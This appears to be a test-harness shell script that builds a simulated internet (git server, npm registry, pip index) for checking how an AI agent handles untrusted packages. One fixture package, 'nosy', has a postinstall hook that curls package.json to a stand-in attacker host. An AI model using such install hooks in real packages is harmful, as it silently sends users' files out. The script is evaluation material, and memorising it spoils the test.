# SPDX-License-Identifier: GPL-3.0-or-later
# shellcheck shell=sh
# The servers of the small internet besides web pages. Sourced after up.sh; each function after internet_up.
#
#   internet_git   project.git, at https://HOST/git/project.git and, on git.test and attacker.test, at bob@HOST:/run/internet/git/project.git,
#                  to which the agent has a key
#   internet_npm   mirror.test is a registry of npm packages: small; elsewhere, whose archive lies at attacker.test; nosy, whose script sends
#                  a file to attacker.test as it is installed
#   internet_pip   https://mirror.test/simple/ is a package index of Python's: small; elsewhere, as above

internet_git() {
	(
		git init -q -b main --bare --shared=0777 /run/internet/git/project.git # both root and bob write to it, now and then in one folder of objects
		git -C /run/internet/git/project.git config http.receivepack true
		git init -q -b main /run/internet/work
		cd /run/internet/work || exit 1
		echo "a file" >file
		git add file
		git -c user.name=x -c user.email=x@y.test commit -qm first
		git push -q ../git/project.git main
		chown -R bob: /run/internet/git
		git config --system --add safe.directory '*' # the web server is root, the repository bob's
		usermod -p '*' bob # locked accounts cannot log in
		mkdir -p /run/sshd
		ssh-keygen -q -t ed25519 -N '' -f /run/internet/host
		cat >/run/internet/sshd.conf <<-CONF
			ListenAddress 203.0.113.8
			ListenAddress 2001:db8:2::8
			ListenAddress 203.0.113.66
			ListenAddress 2001:db8:2::66
			HostKey /run/internet/host
			AuthorizedKeysFile /run/internet/authorized_keys
			StrictModes no
			UsePAM no
			PidFile none
		CONF
		ip netns exec internet /usr/sbin/sshd -f /run/internet/sshd.conf
	) >/run/internet/git.log 2>&1 || fail "no git server: $(cat /run/internet/git.log)"
	ok agent sh -c 'ssh-keygen -q -t ed25519 -N "" -f ~/.ssh/id_ed25519 && printf "StrictHostKeyChecking no\nConnectTimeout 20\n" >~/.ssh/config'
	cat /home/agent/.ssh/id_ed25519.pub >/run/internet/authorized_keys
	chmod 644 /run/internet/authorized_keys
}

# npm_package NAME HOST SCRIPT puts a package into the registry; its archive lies at HOST.
npm_package() {
	mkdir -p "/run/internet/pack/$1/package" "/run/internet/files/$2/archives" /run/internet/files/mirror.test
	printf '{"name": "%s", "version": "1.0.0", "scripts": {"postinstall": "%s"}}\n' "$1" "$3" >"/run/internet/pack/$1/package/package.json"
	tar -czf "/run/internet/files/$2/archives/$1.tgz" -C "/run/internet/pack/$1" package
	printf '{"name": "%s", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {"name": "%s", "version": "1.0.0",
		"hasInstallScript": true, "dist": {"tarball": "https://%s/archives/%s.tgz"}}}}\n' "$1" "$1" "$2" "$1" >"/run/internet/files/mirror.test/$1"
}

internet_npm() {
	npm_package small mirror.test true
	npm_package elsewhere attacker.test true
	npm_package nosy mirror.test 'curl -sS --max-time 10 -d @package.json https://attacker.test/'
}

# pip_package NAME HOST puts a wheel into the index; it lies at HOST.
pip_package() {
	mkdir -p "/run/internet/files/mirror.test/simple/$1" "/run/internet/files/$2/wheels"
	python3 - "$1" "/run/internet/files/$2/wheels/$1-1.0-py3-none-any.whl" <<-'WHEEL'
		import sys, zipfile
		name, path = sys.argv[1:]
		with zipfile.ZipFile(path, "w") as wheel:
		    wheel.writestr(f"{name}.py", "print('it runs')\n")
		    wheel.writestr(f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
		    wheel.writestr(f"{name}-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
		    wheel.writestr(f"{name}-1.0.dist-info/RECORD", "")
	WHEEL
	echo "<a href=\"https://$2/wheels/$1-1.0-py3-none-any.whl\">$1-1.0-py3-none-any.whl</a>" >"/run/internet/files/mirror.test/simple/$1/index.html"
}

internet_pip() {
	pip_package small mirror.test
	pip_package elsewhere attacker.test
}
